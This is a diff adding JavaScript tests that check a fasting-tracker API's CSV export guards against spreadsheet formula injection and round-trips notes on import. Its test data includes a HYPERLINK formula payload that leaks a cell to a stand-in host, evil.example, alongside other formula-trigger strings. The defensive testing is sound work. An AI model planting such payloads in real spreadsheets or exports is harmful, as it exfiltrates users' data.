@@ -389,6 +389,70 @@ describe('streaks and stats', () => {
   });
 });
 
+describe('CSV export guards spreadsheet formulas (OWASP CSV injection)', () => {
+  // Notes a spreadsheet would run as formulas, and one a user quoted themselves.
+  const HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', '+1+1', '-2',
+    '@SUM(A1)', '\t=1', "'=already quoted"];
+  // How each is written: one quote more, and the field always quoted (quotes doubled).
+  const CELLS = ['"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"', '"\'+1+1"',
+    '"\'-2"', '"\'@SUM(A1)"', '"\'\t=1"', '"\'\'=already quoted"'];
+
+  test('notes are written as quoted text, and an import brings them back identical', async () => {
+    const u = await newUser('UTC');
+    const now = Date.now();
+    for (const [i, notes] of HOSTILE.entries()) {
+      const start = now - (47 - 7 * i) * 3600e3;
+      const s = await call('POST', SESSIONS, u.access, {
+        target_hours: 1, started_at: iso(start), notes });
+      assert.equal(s.status, 201, s.text);
+      const e = await call('POST', `${SESSIONS}/${s.json.data.id}/end`, u.access, {
+        ended_at: iso(start + 2 * 3600e3) });
+      assert.equal(e.status, 200, e.text);
+    }
+    const csv = await call('GET', EXPORT, u.access);
+    assert.equal(csv.status, 200, csv.text);
+    const lines = csv.text.split('\r\n');
+    assert.equal(lines[0], HEADER);
+    assert.equal(lines.length, 1 + HOSTILE.length + 1, csv.text);  // the last is empty
+    for (const [i, cell] of CELLS.entries()) {
+      assert.ok(lines[1 + i].endsWith(`,2.00,1.00,completed,,UTC,${cell}`), lines[1 + i]);
+    }
+    // The JSON export is not for spreadsheets: notes exactly as written.
+    const json = await call('GET', `${EXPORT}?format=json`, u.access);
+    assert.deepEqual(json.json.data.fasts.map((f) => f.notes), HOSTILE);
+
+    const v = await newUser('Asia/Tokyo');
+    const imported = await importCsv(v.access, csv.text);
+    assert.equal(imported.status, 200, imported.text);
+    assert.deepEqual(imported.json.data, { imported: HOSTILE.length, skipped_duplicates: 0 });
+    const copy = await call('GET', `${EXPORT}?format=json`, v.access);
+    assert.deepEqual(copy.json.data.fasts.map((f) => f.notes), HOSTILE);
+    const stored = await psql(`SELECT string_agg(encode(convert_to(notes, 'UTF8'), 'hex'), ',' `
+      + `ORDER BY started_at) FROM fasting_sessions WHERE user_id = '${v.id}'`);
+    assert.equal(stored, HOSTILE.map((n) => Buffer.from(n).toString('hex')).join(','));
+    // Importing the same file again recognises every row.
+    const again = await importCsv(v.access, csv.text);
+    assert.deepEqual(again.json.data, { imported: 0, skipped_duplicates: HOSTILE.length });
+  });
+
+  test('a note of 2000 characters, not bytes, survives the round trip', async () => {
+    const u = await newUser('UTC');
+    const notes = `=${'é'.repeat(1999)}`;  // the API's maximum, 4000 bytes, guarded on export
+    const start = Date.now() - 10 * 3600e3;
+    const s = await call('POST', SESSIONS, u.access, {
+      target_hours: 1, started_at: iso(start), notes });
+    assert.equal(s.status, 201, s.text);
+    await call('POST', `${SESSIONS}/${s.json.data.id}/end`, u.access, {
+      ended_at: iso(start + 3600e3) });
+    const csv = await call('GET', EXPORT, u.access);
+    const v = await newUser();
+    const imported = await importCsv(v.access, csv.text);
+    assert.equal(imported.status, 200, imported.text);
+    const copy = await call('GET', `${EXPORT}?format=json`, v.access);
+    assert.equal(copy.json.data.fasts[0].notes, notes);
+  });
+});
+
 describe('POST /fasting/sessions/import refusals store nothing', () => {
   test('bad rows are 422 naming each line', async () => {
     const u = await newUser();
